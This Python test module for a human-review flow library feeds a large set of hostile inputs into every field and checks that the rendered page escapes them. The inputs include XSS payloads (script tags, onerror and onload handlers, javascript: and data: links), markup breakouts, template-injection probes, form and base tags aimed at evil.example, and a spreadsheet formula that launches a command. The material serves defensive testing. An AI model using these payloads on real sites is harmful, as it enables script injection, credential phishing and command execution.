"""Words that want to be code, and where each of them may end: in text, never in markup.

Every vector's element carries ``id=foreign``, an ``on...`` attribute or an address that runs,
so a page that let one through can be told from a page of ours without knowing the page.
"""

from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any, Literal

from pydantic import BaseModel, Field

from signoff import Flow, HumanFeedbackResult, human_feedback, listen, start

VECTORS = {
    "script": "<script id=foreign>ran()</script>",
    "way out of fields": "</textarea></title></script></style><b id=foreign>out</b>",
    "picture": "<img id=foreign src=x onerror=ran()>",
    "drawing": "<svg id=foreign onload=ran()><animate onbegin=ran() attributeName=x>",
    "attribute": "\"'><b id=foreign onclick=ran()>",
    "attribute without a bracket": '" onfocus=ran() autofocus id=foreign x="',
    "attribute in single quotes": "' onfocus=ran() autofocus id=foreign x='",
    "link": "[press](javascript:ran()) <javascript:ran()> ![x](javascript:ran())",
    "link with a tab": "[press](java&#9;script:ran()) <a id=foreign href=' javascript:ran()'>x</a>",
    "data address": "[press](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "frame": "<iframe id=foreign srcdoc='<script>ran()</script>'></iframe>",
    "style": "<style id=foreign>*{display:none}</style><p style=position:fixed id=foreign>",
    "form": "<form id=foreign action=https://evil.example><button>Approve</button></form>",
    "base and refresh": "<base id=foreign href=//evil.example><meta id=foreign http-equiv=refresh>",
    "comment": "<!--<a title='--><img id=foreign src=x onerror=ran()>'>",
    "half a tag": "<img id=foreign src=x onerror=ran() ",
    "math": "<math id=foreign><mtext><table><mglyph><style><img id=foreign src onerror=ran()>",
    "template": "{{ 7777 * 7 }}{% raw %}${7777*7}<%= 7777*7 %>#{7777*7}",
    "clobbered names": "<a id=main name=attributes></a><input id=foreign name=content_hash>",
    "turned around": "\u202egpj.exe\u2066\u200b",
    "controls": "\x00\x08\x1b[31m\ufeff",
}
ALL = "\n\n".join(VECTORS.values())
SHORT = "\"'><b id=foreign onclick=ran()>{{7777*7}}"  # for fields that take a few words
FORMULA = "=cmd|' /C calc'!A0"  # what a spreadsheet would run
PLAIN = tuple(one for name, one in VECTORS.items() if name != "controls")  # a person can type them
EVALUATED = "54439"
OUTCOMES = ["approved", SHORT, VECTORS["script"], "javascript:ran()"]
_RUNNING = ("javascript:", "data:text", "vbscript:")
_ELSEWHERE = ("http:", "https:", "//")  # where a link may lead, and nothing else
_ADDRESSES = {"href", "src", "action", "formaction", "srcdoc", "xlink:href", "poster", "data"}
_RAW = tuple(vector for vector in VECTORS.values() if vector.startswith("<"))


def foreign_in(html):
    """Return what of a page is not ours; an empty list where everything is."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    found = reader.found + [vector for vector in _RAW if vector in html]
    return [*found, "a template was run"] if EVALUATED in html else found


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            address = "".join((value or "").split()).lower() if name in _ADDRESSES else ""
            if (
                name.startswith("on")
                or (name == "id" and value == "foreign")
                or name == "style"
                or address.startswith(_RUNNING)
                or (tag != "a" and address.startswith(_ELSEWHERE))
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("script", "style", "base", "iframe", "object", "embed"):
            self._check_loader(tag, dict(attrs))

    handle_startendtag = handle_starttag

    def _check_loader(self, tag, attrs):
        src = attrs.get("src") or ""
        if not (tag == "script" and src.startswith("/static/")) and not src.startswith("/mailbox/"):
            self.found.append(f"<{tag} {attrs}>")


class HostileFlow(Flow):
    __doc__ = f"{SHORT} {ALL}"

    @start()
    @human_feedback(
        message=ALL,
        emit=OUTCOMES,
        metadata={
            "title": ALL,
            "summary": ALL,
            "risk": SHORT,
            SHORT: {"deep": [ALL, {SHORT: ALL}]},
        },
    )
    def review(self):
        self.state[SHORT] = {"list": [ALL], SHORT: 1}
        return self.state.get("content", ALL)

    @listen("approved")
    def use(self, result: HumanFeedbackResult):
        return {SHORT: ALL, "said": result.feedback}


class FailingFlow(Flow):
    @start()
    def fail(self):
        raise ValueError(ALL)


class WishFlow(Flow):
    """Learn what it is told, where a person confirms it."""

    @start()
    @human_feedback(message=SHORT, emit=["approved", "needs_revision"], learn=True)
    def review(self):
        return ALL


class Inner(BaseModel):
    word: str = Field(SHORT, title=SHORT, description=ALL)


class Kinds(BaseModel):
    """A field of each kind that a form has."""

    text: str = Field(SHORT, title=SHORT, description=ALL)
    long: str = Field("\n\n".join(PLAIN), title=SHORT, description=ALL)
    number: float = Field(1.5, title=SHORT)
    whole: int = Field(0, title=SHORT)
    decimal: Decimal = Field(Decimal("1.5"), title=SHORT)
    yes: bool = Field(default=True, title=SHORT, description=ALL)
    maybe: bool | None = Field(None, title=SHORT)
    day: date | None = Field(None, title=SHORT)
    few: Literal["a", PLAIN[0], SHORT] = Field("a", title=SHORT)
    many: Literal[PLAIN] = Field(PLAIN[0], title=SHORT)
    words: list[str] = Field([SHORT], title=SHORT)
    numbers: list[int] = Field([1], title=SHORT)
    free: dict[str, Any] = Field({SHORT: ALL}, title=SHORT)
    inner: Inner = Field(Inner(), title=SHORT)
    named: str = Field("", alias=SHORT)


Kinds.__doc__ = ALL


class KindsFlow(Flow[Kinds]):
    """Ask for a form and an edit, and again; what a run is started with is a form, too."""

    @start("again")
    @human_feedback(message=SHORT, emit=["again", "enough"], response_model=Kinds, editable=True)
    def review(self):
        self.state.whole += 1
        said = SHORT if self.state.whole % 2 else "nothing"
        return f"{ALL}\n\nThe price of it is {said} as was agreed in round {self.state.whole}"


FLOWS = {SHORT: HostileFlow, "fail": FailingFlow, FORMULA: WishFlow, "kinds": KindsFlow}


def all_flows():
    """The hostile flows, for a server in another process."""
    return FLOWS
